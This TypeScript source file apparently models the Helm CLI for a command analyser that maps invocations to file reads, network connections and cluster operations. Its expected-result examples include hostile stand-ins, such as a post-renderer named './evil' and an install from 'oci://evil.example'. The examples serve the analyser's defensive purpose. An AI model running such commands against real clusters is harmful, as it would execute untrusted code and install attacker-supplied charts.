import type { Operation } from '../../../operation.ts';
import { unknown } from '../../analyse.ts';
import type { Invocation, ParsedArgs, Program, ProgramSpec } from '../../program.ts';
import { connectTo } from '../../url.ts';
import { commandsOf, connection, named, serviceProgram } from '../remote-service.ts';
import { clusterOptions, manifests, reachCluster } from './cluster.ts';

const { asks, orders, removes, local } = commandsOf({ ...clusterOptions, reach: reachCluster });

const output = {
  flags:
    '-a --all -A --all-namespaces -q --short --no-headers --no-color --deployed --failed --pending --uninstalled -d --date -r --reverse --client --show-desc --show-resources --versions -l --devel --no-hooks',
  values: {
    '-o --output': 'text',
    '-m --max': 'text',
    '-f --filter': 'text',
    '-l --selector': 'text',
    '--revision': 'text',
    '--max': 'text',
    '--version': 'text',
    '--template': 'text',
    '--offset': 'text',
  },
} as const satisfies ProgramSpec;

/** What a chart is filled in with. */
const values = {
  flags:
    '-i --install --create-namespace --dry-run= --atomic --wait --wait-for-jobs --force --reuse-values --reset-values --cleanup-on-fail --debug -g --generate-name --include-crds --skip-crds --skip-tests --no-hooks --dependency-update --is-upgrade --strict --quiet --with-subcharts --validate --devel --replace --history-max --keep-history --cascade --ignore-not-found',
  values: {
    '-f --values': 'text',
    '--set': 'text',
    '--set-string': 'text',
    '--set-json': 'text',
    '--set-file': 'text',
    '--version': 'text',
    '--repo': 'text',
    '--timeout': 'text',
    '-s --show-only': 'text',
    '-a --api-versions': 'text',
    '--kube-version': 'text',
    '--output-dir': 'write-tree',
    '--description': 'text',
    '--name-template': 'text',
    '-o --output': 'text',
    '--ca-file': 'read',
    '--cert-file': 'read',
    '--key-file': 'read',
    '--username': 'text',
    '--password': 'text',
  },
} as const satisfies ProgramSpec;

/** `--post-renderer` names a program, so it is not among the options. */
function chart(parsed: ParsedArgs, invocation: Invocation): Operation[] {
  const set = parsed
    .values('--set-file')
    .flatMap(({ text = '' }) => text.split(',').map(part => part.slice(part.indexOf('=') + 1)));
  return [
    ...manifests(['-f'])(parsed, invocation),
    ...set.flatMap(path => invocation.paths('read', { text: path, prefix: path, glob: false })),
    ...parsed.values('--repo').map(url => connectTo(url, invocation, 'GET')),
    ...parsed.operands.flatMap(arg => charts(arg.text ?? arg.prefix, invocation)),
  ];
}

function charts(text: string, invocation: Invocation): Operation[] {
  const [, scheme, host = ''] = /^(oci|https?):\/\/([^/:]+)/.exec(text) ?? [];
  if (scheme !== undefined) return [connection(host, 'GET')];
  if (text.includes('://')) return [unknown(invocation, 'a chart that a plug-in fetches')];
  return text === '' ? [] : invocation.paths('read', { text, prefix: text, glob: false }, true);
}

const render = local({ ...values, also: chart });
const release = orders({ ...values, also: chart });
const fetch = orders({
  ...values,
  flags: `${values.flags} --untar --prov --verify --skip-refresh`,
  values: { ...values.values, '-d --destination': 'write-tree', '--untardir': 'write-tree' },
  also: chart,
});
const list = asks(output);
const dependencies = named('dependency dep', {
  subcommands: {
    ...named('list ls', local({ operands: ['read-tree'] })),
    ...named('update up build', orders({ flags: '--skip-refresh', operands: ['read-tree'] })),
  },
});

/** Helm, and what else plans or looks at a cluster. */
export const helmPrograms: readonly Program[] = [
  serviceProgram(
    ['helm'],
    {
      flags: `--help ${clusterOptions.flags}`,
      values: clusterOptions.values,
      subcommands: {
        ...named('list ls status history hist version', list),
        env: local({ described: false }),
        get: {
          subcommands: {
            ...named('notes metadata', list),
            ...named('values all hooks manifest', { ...list, described: false }),
          },
        },
        ...named('template lint', render),
        show: { subcommands: named('chart values readme crds all', local({ ...values, also: chart })) },
        search: { subcommands: { repo: local(output), hub: orders(output) } },
        repo: {
          subcommands: {
            ...named('list ls', local(output)),
            ...named('add update up remove rm index', orders({ ...values, noOptions: true })),
          },
        },
        ...dependencies,
        ...named('install upgrade rollback test', release),
        ...named('uninstall delete del', removes({ ...values })),
        ...named('pull fetch', fetch),
        push: orders({
          ...values,
          operands: ['read', 'text'],
          also: ({ operands: [, to] }) => [
            connection((to?.text ?? '').replace(/^\w+:\/\//, '').split(/[/:]/)[0] || 'registry:charts', 'POST'),
          ],
        }),
        package: local({
          flags: '-u --dependency-update',
          values: { '-d --destination': 'write-tree', '--version': 'text', '--app-version': 'text' },
          operands: ['read-tree'],
          described: false,
        }),
        create: local({ operands: ['write-tree'] }),
        registry: { subcommands: named('login logout', orders({ noOptions: true })) },
        plugin: {
          subcommands: {
            ...named('list ls', local()),
            ...named('install update uninstall', orders({ noOptions: true })),
          },
        },
        ...named('completion help', local()),
      },
    },
    {
      'helm list -A': ['connect kubernetes:current GET'],
      'helm get values api': ['connect kubernetes:current GET', 'read /workspace'],
      'helm template ./chart -f values.yaml': ['read /workspace/values.yaml (tree)', 'read /workspace/chart (tree)'],
      'helm lint charts/app': ['read /workspace/charts/app (tree)'],
      'helm template x --post-renderer ./evil': [
        'unknown helm: the option `--post-renderer` is not known',
        'read /workspace/x (tree)',
        'read /workspace/evil (tree)',
        'read /workspace',
      ],
      'helm upgrade --install a oci://evil.example/c': [
        'read /workspace/a (tree)',
        'connect evil.example GET',
        'connect kubernetes:current POST',
        'read /workspace',
      ],
      'helm uninstall api --kube-context prod': ['connect kubernetes:prod DELETE', 'read /workspace'],
      'helm push a-1.tgz oci://r.example/charts': [
        'read /workspace/a-1.tgz',
        'connect r.example POST',
        'connect kubernetes:current POST',
        'read /workspace',
      ],
    },
  ),
];
